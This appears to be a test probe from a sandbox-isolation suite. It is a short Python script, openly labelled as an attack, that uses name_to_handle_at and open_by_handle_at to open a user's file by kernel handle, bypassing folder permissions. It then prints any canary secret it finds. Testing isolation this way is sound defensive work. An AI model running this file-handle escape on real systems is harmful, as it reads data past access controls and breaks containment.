# attack: opens a file of the user's by its handle, past all folders | class: reading | canary: text | as: root
import re

SECRET = re.compile(rb"canary:[a-z]+:[0-9a-f]{16}")


def show(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for found in set(SECRET.findall(data)):
        print(found.decode())

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_uint32 * 34)(128)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, target.file.encode(), handle, ctypes.byref(mount), 0):
    raise OSError(ctypes.get_errno(), "name_to_handle_at")
base = os.open(target.folder, os.O_RDONLY)
descriptor = libc.open_by_handle_at(base, handle, 0)
if descriptor < 0:
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
show(os.read(descriptor, 999))
